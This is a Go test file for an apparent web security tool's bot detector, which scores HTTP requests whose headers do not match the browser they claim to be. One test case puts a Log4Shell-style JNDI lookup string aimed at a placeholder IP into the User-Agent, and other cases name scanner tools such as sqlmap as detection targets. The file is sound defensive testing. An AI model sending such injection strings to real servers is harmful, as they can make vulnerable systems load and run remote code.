package bot

import (
	"crypto/tls"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/vigilhq/vigil/internal/detect"
)

type inspectCase struct {
	name    string
	method  string // GET when empty
	tls     bool
	headers [][2]string // as the client sends them
	want    []detect.Finding
}

func (tc inspectCase) request() *http.Request {
	method := tc.method
	if method == "" {
		method = http.MethodGet
	}
	r := httptest.NewRequest(method, "https://shop.example/", nil)
	if !tc.tls {
		r.TLS = nil
	} else if r.TLS == nil {
		r.TLS = &tls.ConnectionState{}
	}
	r.Header = http.Header{}
	for _, h := range tc.headers {
		r.Header.Add(h[0], h[1])
	}
	return r
}

func inconsistent(score int, detail string) detect.Finding {
	return detect.Finding{Detector: "bot", Code: "ua_inconsistent", Score: score, Detail: detail}
}

const (
	uaChrome        = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/151.0.0.0 Safari/537.36"
	uaChromeAndroid = "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/151.0.0.0 Mobile Safari/537.36"
	uaEdge          = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/151.0.0.0 Safari/537.36 Edg/151.0.0.0"
	uaFirefox       = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:153.0) Gecko/20100101 Firefox/153.0"
	uaSafari        = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.5 Safari/605.1.15"
	uaSafariIPhone  = "Mozilla/5.0 (iPhone; CPU iPhone OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.6 Mobile/15E148 Safari/604.1"
	uaChromeIOS     = "Mozilla/5.0 (iPhone; CPU iPhone OS 26_6_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/151.0.7922.112 Mobile/15E148 Safari/604.1"
	uaWebView       = "Mozilla/5.0 (Linux; Android 13; SM-N981N Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/150.0.7871.181 Mobile Safari/537.36"
	uaOpera         = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/149.0.0.0 Safari/537.36 OPR/133.0.0.0"

	navAccept = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7"
)

// inspectCases are requests with the header sets that current browsers send (navigation
// and script requests), requests from clients that claim a browser they are not, and
// non-browser User-Agents. The first case must stay a consistent Chrome request: the
// allocation test and the benchmark use it.
var inspectCases = []inspectCase{
	{name: "chrome_navigation", tls: true, headers: [][2]string{
		{"sec-ch-ua", `"Chromium";v="151", "Google Chrome";v="151", "Not.A/Brand";v="99"`},
		{"sec-ch-ua-mobile", "?0"},
		{"sec-ch-ua-platform", `"Windows"`},
		{"upgrade-insecure-requests", "1"},
		{"user-agent", uaChrome},
		{"accept", navAccept},
		{"sec-fetch-site", "none"},
		{"sec-fetch-mode", "navigate"},
		{"sec-fetch-user", "?1"},
		{"sec-fetch-dest", "document"},
		{"accept-encoding", "gzip, deflate, br, zstd"},
		{"accept-language", "en-US,en;q=0.9"},
		{"priority", "u=0, i"},
	}},
	{name: "chrome_fetch_cors", tls: true, method: http.MethodPost, headers: [][2]string{
		{"content-type", "application/json"},
		{"sec-ch-ua-platform", `"macOS"`},
		{"user-agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/151.0.0.0 Safari/537.36"},
		{"sec-ch-ua", `"Google Chrome";v="151", "Chromium";v="151", "Not)A;Brand";v="24"`},
		{"sec-ch-ua-mobile", "?0"},
		{"accept", "*/*"},
		{"origin", "https://shop.example"},
		{"sec-fetch-site", "same-origin"},
		{"sec-fetch-mode", "cors"},
		{"sec-fetch-dest", "empty"},
		{"referer", "https://shop.example/cart"},
		{"accept-encoding", "gzip, deflate, br, zstd"},
		{"accept-language", "de-DE,de;q=0.9,en;q=0.8"},
		{"priority", "u=1, i"},
	}},
	{name: "chrome_android_navigation", tls: true, headers: [][2]string{
		{"sec-ch-ua", `"Chromium";v="151", "Google Chrome";v="151", "Not.A/Brand";v="99"`},
		{"sec-ch-ua-mobile", "?1"},
		{"sec-ch-ua-platform", `"Android"`},
		{"upgrade-insecure-requests", "1"},
		{"user-agent", uaChromeAndroid},
		{"accept", navAccept},
		{"sec-fetch-site", "none"},
		{"sec-fetch-mode", "navigate"},
		{"sec-fetch-user", "?1"},
		{"sec-fetch-dest", "document"},
		{"accept-encoding", "gzip, deflate, br, zstd"},
		{"accept-language", "en-GB,en-US;q=0.9,en;q=0.8"},
		{"priority", "u=0, i"},
	}},
	{name: "edge_navigation", tls: true, headers: [][2]string{
		{"sec-ch-ua", `"Chromium";v="151", "Microsoft Edge";v="151", "Not.A/Brand";v="99"`},
		{"sec-ch-ua-mobile", "?0"},
		{"sec-ch-ua-platform", `"Windows"`},
		{"upgrade-insecure-requests", "1"},
		{"user-agent", uaEdge},
		{"accept", navAccept},
		{"sec-fetch-site", "cross-site"},
		{"sec-fetch-mode", "navigate"},
		{"sec-fetch-user", "?1"},
		{"sec-fetch-dest", "document"},
		{"referer", "https://www.bing.com/"},
		{"accept-encoding", "gzip, deflate, br, zstd"},
		{"accept-language", "en-US,en;q=0.9"},
		{"priority", "u=0, i"},
	}},
	{name: "opera_navigation", tls: true, headers: [][2]string{
		{"sec-ch-ua", `"Opera";v="133", "Chromium";v="149", "Not)A;Brand";v="24"`},
		{"sec-ch-ua-mobile", "?0"},
		{"sec-ch-ua-platform", `"Windows"`},
		{"upgrade-insecure-requests", "1"},
		{"user-agent", uaOpera},
		{"accept", navAccept},
		{"sec-fetch-site", "none"},
		{"sec-fetch-mode", "navigate"},
		{"sec-fetch-user", "?1"},
		{"sec-fetch-dest", "document"},
		{"accept-encoding", "gzip, deflate, br, zstd"},
		{"accept-language", "en-US,en;q=0.9"},
	}},
	{name: "firefox_navigation", tls: true, headers: [][2]string{
		{"User-Agent", uaFirefox},
		{"Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"},
		{"Accept-Language", "en-US,en;q=0.5"},
		{"Accept-Encoding", "gzip, deflate, br, zstd"},
		{"Upgrade-Insecure-Requests", "1"},
		{"Sec-Fetch-Dest", "document"},
		{"Sec-Fetch-Mode", "navigate"},
		{"Sec-Fetch-Site", "none"},
		{"Sec-Fetch-User", "?1"},
		{"Priority", "u=0, i"},
		{"TE", "trailers"},
	}},
	{name: "safari_navigation", tls: true, headers: [][2]string{
		{"Sec-Fetch-Dest", "document"},
		{"User-Agent", uaSafari},
		{"Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"},
		{"Sec-Fetch-Site", "none"},
		{"Sec-Fetch-Mode", "navigate"},
		{"Accept-Language", "en-GB,en;q=0.9"},
		{"Priority", "u=0, i"},
		{"Accept-Encoding", "gzip, deflate, br"},
	}},
	{name: "safari_iphone_navigation", tls: true, headers: [][2]string{
		{"Sec-Fetch-Dest", "document"},
		{"User-Agent", uaSafariIPhone},
		{"Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"},
		{"Sec-Fetch-Site", "none"},
		{"Sec-Fetch-Mode", "navigate"},
		{"Accept-Language", "fr-FR,fr;q=0.9"},
		{"Priority", "u=0, i"},
		{"Accept-Encoding", "gzip, deflate, br"},
	}},
	// Chrome on iOS runs on WebKit: Safari's headers, no client hints (§11).
	{name: "chrome_ios_navigation", tls: true, headers: [][2]string{
		{"Sec-Fetch-Dest", "document"},
		{"User-Agent", uaChromeIOS},
		{"Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"},
		{"Sec-Fetch-Site", "none"},
		{"Sec-Fetch-Mode", "navigate"},
		{"Accept-Language", "en-US,en;q=0.9"},
		{"Priority", "u=0, i"},
		{"Accept-Encoding", "gzip, deflate, br"},
	}},
	// An in-app Android WebView: only the sec-ch-ua agreement is checked.
	{name: "android_webview", tls: true, headers: [][2]string{
		{"User-Agent", uaWebView},
		{"Accept", navAccept},
		{"X-Requested-With", "com.example.app"},
		{"Accept-Encoding", "gzip, deflate"},
		{"Accept-Language", "vi-VN,vi;q=0.9"},
	}},
	// Browsers send neither client hints nor Fetch Metadata to plain-HTTP origins.
	{name: "chrome_plain_http", headers: [][2]string{
		{"Upgrade-Insecure-Requests", "1"},
		{"User-Agent", uaChrome},
		{"Accept", navAccept},
		{"Accept-Encoding", "gzip, deflate"},
		{"Accept-Language", "en-US,en;q=0.9"},
	}},
	// Media range requests ask for the identity encoding.
	{name: "chrome_media_range", tls: true, headers: [][2]string{
		{"sec-ch-ua", `"Chromium";v="151", "Google Chrome";v="151", "Not.A/Brand";v="99"`},
		{"sec-ch-ua-mobile", "?0"},
		{"sec-ch-ua-platform", `"Windows"`},
		{"user-agent", uaChrome},
		{"accept", "*/*"},
		{"sec-fetch-site", "same-origin"},
		{"sec-fetch-mode", "no-cors"},
		{"sec-fetch-dest", "video"},
		{"accept-encoding", "identity;q=1, *;q=0"},
		{"accept-language", "en-US,en;q=0.9"},
		{"range", "bytes=0-"},
	}},
	{name: "cors_preflight", tls: true, method: http.MethodOptions, headers: [][2]string{
		{"accept", "*/*"},
		{"access-control-request-method", "PUT"},
		{"origin", "https://app.example"},
		{"user-agent", uaChrome},
		{"sec-fetch-mode", "cors"},
		{"sec-fetch-site", "cross-site"},
		{"sec-fetch-dest", "empty"},
	}},

	// Clients that claim a browser.
	{name: "python_requests_as_chrome", tls: true, headers: [][2]string{
		{"User-Agent", uaChrome},
		{"Accept-Encoding", "gzip, deflate"},
		{"Accept", "*/*"},
		{"Connection", "keep-alive"},
	}, want: []detect.Finding{
		inconsistent(30, "chromium 89+ over tls without sec-ch-ua"),
		inconsistent(30, "no sec-fetch-site from a browser that sends fetch metadata"),
		inconsistent(25, "browser user-agent without accept-language"),
		inconsistent(20, "browser user-agent over tls without br in accept-encoding"),
	}},
	{name: "go_client_as_firefox", tls: true, headers: [][2]string{
		{"User-Agent", uaFirefox},
		{"Accept-Encoding", "gzip"},
	}, want: []detect.Finding{
		inconsistent(30, "no sec-fetch-site from a browser that sends fetch metadata"),
		inconsistent(25, "browser user-agent without accept-language"),
		inconsistent(20, "browser user-agent over tls without br in accept-encoding"),
	}},
	{name: "chrome_ua_old_client_hints", tls: true, headers: [][2]string{
		{"sec-ch-ua", `"Chromium";v="120", "Google Chrome";v="120", "Not.A/Brand";v="99"`},
		{"user-agent", uaChrome},
		{"sec-fetch-site", "none"},
		{"sec-fetch-mode", "navigate"},
		{"accept-encoding", "gzip, deflate, br, zstd"},
		{"accept-language", "en-US,en;q=0.9"},
	}, want: []detect.Finding{
		inconsistent(35, "sec-ch-ua version differs from the user-agent's chromium version"),
	}},
	{name: "chrome_ua_garbled_client_hints", tls: true, headers: [][2]string{
		{"sec-ch-ua", `Chrome 151`},
		{"user-agent", uaChrome},
		{"sec-fetch-site", "none"},
		{"sec-fetch-mode", "navigate"},
		{"accept-encoding", "gzip, deflate, br, zstd"},
		{"accept-language", "en-US,en;q=0.9"},
	}, want: []detect.Finding{
		inconsistent(35, "sec-ch-ua version differs from the user-agent's chromium version"),
	}},
	{name: "chromium_as_firefox", tls: true, headers: [][2]string{
		{"sec-ch-ua", `"Chromium";v="151", "Not.A/Brand";v="99"`},
		{"user-agent", uaFirefox},
		{"sec-fetch-site", "none"},
		{"sec-fetch-mode", "navigate"},
		{"accept-encoding", "gzip, deflate, br, zstd"},
		{"accept-language", "en-US,en;q=0.9"},
	}, want: []detect.Finding{
		inconsistent(35, "sec-ch-ua sent under a non-chromium user-agent"),
	}},
	{name: "safari_without_fetch_metadata", tls: true, headers: [][2]string{
		{"User-Agent", uaSafari},
		{"Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"},
		{"Accept-Language", "en-GB,en;q=0.9"},
		{"Accept-Encoding", "gzip, deflate, br"},
	}, want: []detect.Finding{
		inconsistent(30, "no sec-fetch-site from a browser that sends fetch metadata"),
	}},
	{name: "chrome_without_accept_encoding", headers: [][2]string{
		{"User-Agent", uaChrome},
		{"Accept-Language", "en-US,en;q=0.9"},
	}, want: []detect.Finding{
		inconsistent(25, "browser user-agent without accept-encoding"),
	}},

	// Non-browsers and broken User-Agents.
	{name: "no_user_agent", tls: true, headers: [][2]string{{"Accept", "*/*"}},
		want: []detect.Finding{{Detector: "bot", Code: "ua_missing", Score: 40, Detail: "no user-agent"}}},
	{name: "empty_user_agent", headers: [][2]string{{"User-Agent", ""}},
		want: []detect.Finding{{Detector: "bot", Code: "ua_missing", Score: 40, Detail: "no user-agent"}}},
	{name: "two_user_agents", headers: [][2]string{{"User-Agent", "curl/8.5.0"}, {"User-Agent", "curl/8.5.0"}},
		want: []detect.Finding{
			{Detector: "bot", Code: "ua_malformed", Score: 50, Detail: "several user-agent headers"},
			{Detector: "bot", Code: "automation", Score: 40, Detail: "curl (library)"},
		}},
	{name: "injected_user_agent", headers: [][2]string{{"User-Agent", "${jndi:ldap://198.51.100.7/a}"}},
		want: []detect.Finding{{Detector: "bot", Code: "ua_malformed", Score: 50, Detail: "user-agent is not product/comment grammar"}}},
	{name: "curl", headers: [][2]string{{"User-Agent", "curl/8.5.0"}, {"Accept", "*/*"}},
		want: []detect.Finding{{Detector: "bot", Code: "automation", Score: 40, Detail: "curl (library)"}}},
	{name: "headless_chrome", tls: true, headers: [][2]string{
		{"User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/156.0.0.0 Safari/537.36"},
	}, want: []detect.Finding{{Detector: "bot", Code: "automation", Score: 60, Detail: "headless-chrome (automation)"}}},
	{name: "googlebot", headers: [][2]string{{"User-Agent", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"}},
		want: []detect.Finding{{Detector: "bot", Code: "bot", Score: 40, Detail: "googlebot (search)"}}},
	{name: "gptbot", headers: [][2]string{{"User-Agent", "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)"}},
		want: []detect.Finding{{Detector: "bot", Code: "bot", Score: 40, Detail: "gptbot (ai)"}}},
	{name: "sqlmap", headers: [][2]string{{"User-Agent", "sqlmap/1.8.2#stable (https://sqlmap.org)"}},
		want: []detect.Finding{{Detector: "bot", Code: "scanner_ua", Score: 95, Detail: "sqlmap"}}},
	{name: "unknown_app", headers: [][2]string{{"User-Agent", "MyApp/1.0"}}},
}

func TestInspect(t *testing.T) {
	d := newTestDetector(t)
	for _, tc := range inspectCases {
		t.Run(tc.name, func(t *testing.T) {
			r := tc.request()
			got := d.InspectRequest(nil, r, d.Classify(r.UserAgent()))
			if diff := cmp.Diff(tc.want, got); diff != "" {
				t.Errorf("Inspect mismatch (-want +got):\n%s", diff)
			}
		})
	}
}

// TestInspectAppends checks that Inspect keeps what dst holds.
func TestInspectAppends(t *testing.T) {
	d := newTestDetector(t)
	prior := detect.Finding{Detector: "attack", Code: "sqli", Score: 90}
	r := httptest.NewRequest(http.MethodGet, "/", nil)
	r.Header.Set("User-Agent", "curl/8.5.0")
	got := d.InspectRequest([]detect.Finding{prior}, r, d.Classify(r.UserAgent()))
	if len(got) != 2 || got[0] != prior || got[1].Code != "automation" {
		t.Errorf("Inspect appended to a non-empty slice: %+v", got)
	}
}

// TestInspectScoresCombine checks the design intent: one inconsistency is modest, a
// client that gets everything wrong scores past the default challenge range.
func TestInspectScoresCombine(t *testing.T) {
	d := newTestDetector(t)
	for _, tc := range inspectCases {
		if tc.name != "python_requests_as_chrome" {
			continue
		}
		r := tc.request()
		fs := d.InspectRequest(nil, r, d.Classify(r.UserAgent()))
		if s := detect.Combine(fs, nil); s < 65 {
			t.Errorf("combined score of a scripted client posing as Chrome = %d, want ≥ 65", s)
		}
		if s := detect.Combine(fs[:1], nil); s > 40 {
			t.Errorf("one inconsistency scores %d, want ≤ 40", s)
		}
	}
}

func TestBrandsAgree(t *testing.T) {
	cases := []struct {
		name          string
		v             string
		engine, major int
		want          bool
	}{
		{"chrome", `"Chromium";v="151", "Google Chrome";v="151", "Not.A/Brand";v="99"`, 151, 151, true},
		{"grease_with_semicolon", `"Not;A=Brand";v="8", "Chromium";v="151", "Google Chrome";v="151"`, 151, 151, true},
		{"opera_family_differs", `"Opera";v="133", "Chromium";v="149", "Not)A;Brand";v="24"`, 149, 133, true},
		{"chromium_differs", `"Chromium";v="150", "Google Chrome";v="151"`, 151, 151, false},
		{"no_chromium_brand_match", `"Brave";v="151", "Not.A/Brand";v="99"`, 151, 151, true},
		{"no_chromium_brand_mismatch", `"Brave";v="120", "Not.A/Brand";v="99"`, 151, 151, false},
		{"empty", ``, 151, 151, false},
		{"unquoted", `Chromium;v=151`, 151, 151, false},
		{"unterminated", `"Chromium`, 151, 151, false},
		{"full_version_list_shape", `"Chromium";v="151.0.7922.112"`, 151, 151, true},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if got := brandsAgree(tc.v, tc.engine, tc.major); got != tc.want {
				t.Errorf("brandsAgree(%q, %d, %d) = %v, want %v", tc.v, tc.engine, tc.major, got, tc.want)
			}
		})
	}
	// The cached form gives the same answers, the first time and from the cache, and
	// an entry for one version does not answer for another.
	d := newTestDetector(t)
	for range 2 {
		for _, tc := range cases {
			if got := d.brandsAgreeCached(tc.v, tc.engine, tc.major); got != tc.want {
				t.Errorf("brandsAgreeCached(%q, %d, %d) = %v, want %v", tc.v, tc.engine, tc.major, got, tc.want)
			}
			if got, want := d.brandsAgreeCached(tc.v, tc.engine+1, tc.major+1), brandsAgree(tc.v, tc.engine+1, tc.major+1); got != want {
				t.Errorf("brandsAgreeCached(%q, %d, %d) = %v, want %v", tc.v, tc.engine+1, tc.major+1, got, want)
			}
		}
	}
}

// brandsAgreeRef is brandsAgree as first written with the strings package's cuts: the
// reference that FuzzBrandsAgree holds the hand-rolled version to.
func brandsAgreeRef(v string, engine, major int) bool {
	chromium, n, match := -1, 0, false
	for v != "" {
		v = strings.TrimLeft(v, " \t,")
		if !strings.HasPrefix(v, `"`) {
			_, v, _ = strings.Cut(v, ",")
			continue
		}
		brand, rest, ok := strings.Cut(v[1:], `"`)
		if !ok {
			break
		}
		var params string
		params, v, _ = strings.Cut(rest, ",")
		_, ver, ok := strings.Cut(params, "v=")
		if brand == "" || !ok {
			continue
		}
		ver = strings.Trim(strings.TrimSpace(ver), `"`)
		if ver == "" || ver[0] < '0' || ver[0] > '9' {
			continue
		}
		n++
		maj := leadingInt(ver)
		if brand == "Chromium" {
			chromium = maj
		}
		match = match || maj == engine || maj == major
	}
	switch {
	case n == 0:
		return false
	case chromium >= 0:
		return chromium == engine
	}
	return match
}

// FuzzBrandsAgree holds brandsAgree to the reference implementation on arbitrary lists.
func FuzzBrandsAgree(f *testing.F) {
	for _, v := range brandLists {
		f.Add(v, 151, 151)
	}
	f.Fuzz(func(t *testing.T, v string, engine, major int) {
		if got, want := brandsAgree(v, engine, major), brandsAgreeRef(v, engine, major); got != want {
			t.Fatalf("brandsAgree(%q, %d, %d) = %v, reference %v", v, engine, major, got, want)
		}
	})
}

// brandLists seed FuzzBrandsAgree and BenchmarkBrandsAgree.
var brandLists = []string{
	`"Chromium";v="151", "Google Chrome";v="151", "Not.A/Brand";v="99"`,
	`"Not;A=Brand";v="8", "Chromium";v="151", "Google Chrome";v="151"`,
	`"Opera";v="133", "Chromium";v="149", "Not)A;Brand";v="24"`,
	`"Brave";v="120", "Not.A/Brand";v="99"`,
	``, `Chromium;v=151`, `"Chromium`, `"Chromium";v="151.0.7922.112"`,
	` ,\t"Chromium" ; v = " 151" ,, junk, "";v="1", "X";v=""`,
	"\"Chromium\";v=\u00a0\"151\"", `"a";x="1";v="2"`, `,,,`, `"x"`,
}

func BenchmarkBrandsAgree(b *testing.B) {
	v := `"Chromium";v="142", "Google Chrome";v="142", "Not_A Brand";v="99"`
	for b.Loop() {
		if !brandsAgree(v, 142, 142) {
			b.Fatal("Chrome's own list does not agree")
		}
	}
}

// FuzzInspect feeds arbitrary User-Agent, sec-ch-ua and Accept-Encoding values: Inspect
// must not panic and must report only documented codes with scores in range.
func FuzzInspect(f *testing.F) {
	for _, tc := range inspectCases {
		r := tc.request()
		f.Add(r.UserAgent(), r.Header.Get("Sec-Ch-Ua"), r.Header.Get("Accept-Encoding"), tc.tls)
	}
	d := newTestDetector(f)
	codes := map[string]bool{"ua_missing": true, "ua_malformed": true, "bot": true, "automation": true,
		"scanner_ua": true, "ua_inconsistent": true}
	f.Fuzz(func(t *testing.T, ua, chua, ae string, overTLS bool) {
		r := httptest.NewRequest(http.MethodGet, "/", nil)
		if overTLS {
			r.TLS = &tls.ConnectionState{}
		}
		r.Header = http.Header{"User-Agent": {ua}, "Sec-Ch-Ua": {chua}, "Accept-Encoding": {ae}}
		for _, f := range d.InspectRequest(nil, r, d.Classify(ua)) {
			if f.Detector != "bot" || !codes[f.Code] || f.Score < 1 || f.Score > 100 || f.Detail == "" {
				t.Fatalf("Inspect(%q, %q, %q): bad finding %+v", ua, chua, ae, f)
			}
		}
	})
}

func BenchmarkInspect(b *testing.B) {
	d := newTestDetector(b)
	for _, tc := range inspectCases {
		b.Run(tc.name, func(b *testing.B) {
			r := tc.request()
			c := d.Classify(r.UserAgent())
			dst := make([]detect.Finding, 0, 8)
			b.ReportAllocs()
			for b.Loop() {
				dst = d.InspectRequest(dst[:0], r, c)
			}
		})
	}
}
